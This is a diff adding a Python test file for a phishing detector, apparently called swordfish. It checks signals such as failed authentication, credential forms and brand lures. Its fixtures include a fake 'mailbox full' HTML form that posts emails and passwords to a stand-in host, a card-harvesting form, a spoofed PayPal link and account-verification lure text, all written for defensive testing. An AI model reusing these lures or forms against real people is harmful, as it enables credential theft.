@@ -1,0 +1,150 @@
+"""The signals added for learned scoring, each on a message that carries it and on one that does not."""
+
+from __future__ import annotations
+
+from swordfish.analysis import VerdictKind, analyze, parse_message
+
+from .helpers import REPO, build
+
+
+def names(verdict) -> set[str]:
+    return {r.name for r in verdict.reasons}
+
+
+M365_AUTH = ("spf=fail (sender IP is 203.0.113.9) smtp.mailfrom=evil.example; dkim=none (message not signed) "
+             "header.d=none;dmarc=fail action=none header.from=contoso.example;compauth={} reason=001")
+
+
+def test_compauth_fail_is_read_from_microsoft_authentication_results():
+    failed = analyze(build(headers={"Authentication-Results": M365_AUTH.format("fail")}))
+    passed = analyze(build(headers={"Authentication-Results": M365_AUTH.format("pass")}))
+    assert "COMPAUTH_FAIL" in names(failed) and "compauth=fail" in next(
+        r.evidence for r in failed.reasons if r.name == "COMPAUTH_FAIL")
+    assert "COMPAUTH_FAIL" not in names(passed)
+
+
+def test_arc_fail_is_a_signal_and_arc_pass_is_not():
+    fail = analyze(build(headers={"Authentication-Results": "mx.example.net; arc=fail (signature failed)"}))
+    ok = analyze(build(headers={"Authentication-Results": "mx.example.net; arc=pass (i=1)"}))
+    assert "ARC_FAIL" in names(fail) and "ARC_FAIL" not in names(ok)
+
+
+def test_microsoft_filtering_verdicts_are_read():
+    report = "CIP:203.0.113.9;CTRY:XX;LANG:en;SCL:{};SRV:;IPV:NLI;SFV:{};H:x;PTR:;CAT:{};SFS:;DIR:INB;"
+    bad = analyze(build(headers={"X-Forefront-Antispam-Report": report.format(9, "SPM", "PHSH"),
+                                 "X-Microsoft-Antispam": "BCL:8;"}))
+    good = analyze(build(headers={"X-Forefront-Antispam-Report": report.format(1, "NSPM", "NONE"),
+                                  "X-Microsoft-Antispam": "BCL:0;"}))
+    assert {"RECEIVER_SCL_HIGH", "RECEIVER_SPAM_VERDICT", "RECEIVER_PHISH_VERDICT", "RECEIVER_BULK_HIGH"} <= names(bad)
+    assert not names(good) & {"RECEIVER_SCL_HIGH", "RECEIVER_SPAM_VERDICT", "RECEIVER_PHISH_VERDICT",
+                              "RECEIVER_BULK_HIGH"}
+
+
+def test_spamassassin_and_rspamd_verdict_headers_count_only_when_they_say_spam():
+    yes = analyze(build(headers={"X-Spam-Status": "Yes, score=14.2 required=5.0 tests=BAYES_99"}))
+    no = analyze(build(headers={"X-Spam-Status": "No, score=-2.1 required=5.0 tests=BAYES_00",
+                                "X-Spamd-Result": "default: False [-0.21 / 15.00];"}))
+    rspamd = analyze(build(headers={"X-Spamd-Result": "default: True [16.10 / 15.00];"}))
+    assert "RECEIVER_SPAM_VERDICT" in names(yes) and "RECEIVER_SPAM_VERDICT" in names(rspamd)
+    assert "RECEIVER_SPAM_VERDICT" not in names(no)
+
+
+def test_only_the_topmost_verdict_header_counts():
+    # a forwarder's older header below the receiving server's own verdict does not override it
+    raw = b"X-Spam-Status: No, score=0.1\r\nX-Spam-Status: Yes, score=20\r\nFrom: a@b.example\r\n\r\nhi\r\n"
+    assert parse_message(raw).verdict_headers["spam_status"].startswith("No")
+    assert "RECEIVER_SPAM_VERDICT" not in names(analyze(raw))
+
+
+PASSWORD_FORM = ('<p>Your mailbox is full.</p><form action="https://collect.evil.example/p.php" method="post">'
+                 '<input type="text" name="email"><input type="password" name="pw"><input type="submit"></form>'
+                 '<a href="javascript:document.forms[0].submit()">Confirm</a>')
+
+
+def test_the_constructed_password_form_and_javascript_link_message_is_not_clean():
+    v = analyze(build(sender="IT Helpdesk <helpdesk@mailbox-admin.example>", subject="Mailbox quota",
+                      body="Your mailbox is full.", html=PASSWORD_FORM))
+    assert {"CREDENTIAL_FORM", "JAVASCRIPT_LINK"} <= names(v)
+    assert v.verdict != VerdictKind.CLEAN and v.score > 0
+
+
+def test_a_search_form_without_password_posting_to_the_same_page_is_not_a_credential_form():
+    html = '<form action="/search" method="get"><input type="text" name="q"></form><a href="https://a.example/">a</a>'
+    v = analyze(build(html=html))
+    assert not names(v) & {"CREDENTIAL_FORM", "JAVASCRIPT_LINK"}
+
+
+def test_a_form_posting_to_another_site_is_a_credential_form_even_without_a_password_field():
+    html = '<form action="https://collect.evil.example/x"><input name="card"></form>'
+    assert "CREDENTIAL_FORM" in names(analyze(build(html=html)))
+
+
+def test_html_attachment_is_a_signal_and_a_pdf_is_not():
+    html = analyze(build(attachments=[("Remittance.htm", b"<html><body>open me</body></html>", "text/html")]))
+    pdf = analyze(build(attachments=[("invoice.pdf", b"%PDF-1.4\n%...\n", "application/pdf")]))
+    assert "HTML_ATTACHMENT" in names(html) and "HTML_ATTACHMENT" not in names(pdf)
+
+
+def test_brand_named_in_the_subject_from_an_unrelated_domain():
+    fake = analyze(build(sender="Service <no-reply@account-notice.example>", subject="Your PayPal account is limited"))
+    real = analyze(build(sender="PayPal <service@paypal.com>", subject="Your PayPal receipt"))
+    assert "BRAND_IN_SUBJECT" in names(fake) and "BRAND_IN_SUBJECT" not in names(real)
+
+
+def test_links_on_abused_top_level_domains():
+    bad = analyze(build(body="Log in at https://secure-login.top/account now"))
+    good = analyze(build(body="Log in at https://secure-login.example.com/account now"))
+    assert "SUSPICIOUS_TLD" in names(bad) and "SUSPICIOUS_TLD" not in names(good)
+
+
+def test_ip_literal_url_both_ways():
+    assert "IP_URL" in names(analyze(build(body="see http://203.0.113.7/login.php")))
+    assert "IP_URL" not in names(analyze(build(body="see https://www.example.org/login")))
+
+
+def test_link_text_naming_one_domain_and_pointing_at_another():
+    html = '<a href="https://evil.example/paypal">https://www.paypal.com/signin</a>'
+    same = '<a href="https://www.paypal.com/signin?x=1">www.paypal.com/signin</a>'
+    assert "LINK_TEXT_MISMATCH" in names(analyze(build(html=html)))
+    assert "LINK_TEXT_MISMATCH" not in names(analyze(build(html=same)))
+
+
+def test_failed_authentication_with_a_credential_request_is_an_interaction():
+    auth = {"Authentication-Results": "mx.example.net; spf=fail smtp.mailfrom=evil.example; "
+                                      "dmarc=fail header.from=evil.example"}
+    body = "Your password will expire today. Verify your account within 24 hours."
+    both = analyze(build(headers=auth, body=body))
+    only_words = analyze(build(body=body))
+    only_auth = analyze(build(headers=auth))
+    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" in names(both)
+    assert "AUTHFAIL_WITH_CREDENTIAL_ASK" not in names(only_words) | names(only_auth)
+    assert both.score > only_words.score + only_auth.score - 0.01  # never less than the parts
+
+
+def test_the_swordfish_m365_sample_stacks_several_signals():
+    v = analyze((REPO / "samples" / "swordfish" / "m365-password-expiry-phish.eml").read_bytes())
+    assert "SEVERAL_PHISH_SIGNALS" in names(v) and v.verdict == VerdictKind.PHISHING
+
+
+def test_free_site_hosting_is_weighed_apart_from_file_sharing():
+    site = analyze(build(body="Review the document: https://secure-docs-7f2a.web.app/login"))
+    drive = analyze(build(body="Slides: https://drive.google.com/file/d/abc/view"))
+    assert "FREE_SITE_HOST" in names(site) and "FREE_FILE_HOST" not in names(site)
+    assert "FREE_FILE_HOST" in names(drive) and "FREE_SITE_HOST" not in names(drive)
+
+
+def test_brand_named_in_a_credential_lure_from_a_domain_the_brand_does_not_own():
+    body = "Dear PayPal member, we noticed unusual sign-in activity. Verify your account within 24 hours."
+    lure = analyze(build(sender="Service <service@secure-member-center.example>", body=body))
+    real = analyze(build(sender="PayPal <service@paypal.com>", body=body))
+    no_ask = analyze(build(sender="Shop <news@shop.example>", body="We now accept PayPal at checkout."))
+    assert "BRAND_CREDENTIAL_LURE" in names(lure)
+    assert "BRAND_CREDENTIAL_LURE" not in names(real) | names(no_ask)
+
+
+def test_the_tenants_own_it_department_naming_microsoft_is_not_a_brand_lure():
+    from swordfish.analysis import TenantPolicy
+
+    body = "Your Microsoft password will expire today. Verify your account on the intranet."
+    own = analyze(build(sender="IT <it@example.com>", body=body), TenantPolicy(domains=["example.com"]))
+    assert "BRAND_CREDENTIAL_LURE" not in names(own)
